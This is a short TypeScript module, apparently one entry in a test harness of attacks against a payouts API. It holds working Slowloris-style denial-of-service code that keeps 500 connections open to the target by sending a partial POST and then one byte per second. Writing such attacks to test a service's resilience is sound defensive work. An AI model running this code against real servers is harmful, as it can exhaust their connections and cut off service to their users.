import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../attack.ts";

const CONNECTIONS = 500;

export const attack: Attack = {
  title: `a stranger holds ${CONNECTIONS} connections and sends a byte a second on each`,
  run: async ({ url }, signal) => {
    const { hostname, port } = new URL(url);
    let ended = 0;
    const hold = async () => {
      while (!signal.aborted) {
        const socket = connect(Number(port), hostname);
        socket.on("error", () => {});
        socket.write("POST /v1/payouts HTTP/1.1\r\nhost: x\r\ncontent-length: 100000\r\n");
        while (!signal.aborted && !socket.destroyed) {
          await sleep(1_000, undefined, { signal }).catch(() => {});
          socket.write("x");
        }
        socket.destroy();
        ended += 1;
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, hold));
    return { 0: ended };
  },
};
